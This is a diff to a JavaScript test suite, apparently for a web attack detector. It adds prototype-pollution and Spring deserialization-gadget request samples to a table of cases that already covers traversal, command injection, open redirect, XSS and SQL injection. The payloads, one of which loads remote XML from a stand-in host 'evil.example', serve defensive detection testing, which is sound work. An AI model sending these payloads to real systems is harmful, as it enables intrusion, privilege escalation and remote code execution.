@@ -59,6 +59,8 @@ describe("attacks wherever they sit", () => {
     ["as a route's value, a system file behind escaped slashes", "GET /files/%2Fvar%2Flog%2Fapache2%2Ferror.log/view HTTP/1.1\r\nHost: a\r\n\r\n", "traversal", "path.segment[2]"],
     ["as a route's value, a command line in the middle of the path", "GET /files/ls%20-l%20%2Fvar%2Fwww%2F%2A/view HTTP/1.1\r\nHost: a\r\n\r\n", "cmdi", "path.segment[2]"],
     ["in a cookie, a URL spelled to pass a redirect check", "GET / HTTP/1.1\r\nHost: a\r\nCookie: sid=1; back=%2F%09%2Fevil.example\r\n\r\n", "open-redirect", "cookie.back"],
+    ["in a JSON key whose value is no string (prototype pollution)", "POST /api/user HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n{\"name\":\"x\",\"__proto__\":{\"isAdmin\":true}}", "code-injection", "body.json.__proto__"],
+    ["as a gadget class a polymorphic JSON binder builds", "POST /api/user HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://evil.example/spel.xml\"]", "deserialization", "body.json[0]"],
     ["as a short base64 token (the whole value)", `GET /q?c=${Buffer.from("| id").toString("base64")} HTTP/1.1\r\nHost: a\r\n\r\n`, "cmdi", "query.c~base64"],
     ["as base64 in a path segment", `GET /files/${Buffer.from("<script>alert(document.cookie)</script>").toString("base64url")} HTTP/1.1\r\nHost: a\r\n\r\n`, "xss", "path~base64"],
     ["in a double-encoded form body", "POST /post HTTP/1.1\r\nHost: a\r\n\r\npay%3DAND%202771%3D1709%29", "sqli", "body~url~url-in-value.query.pay"],
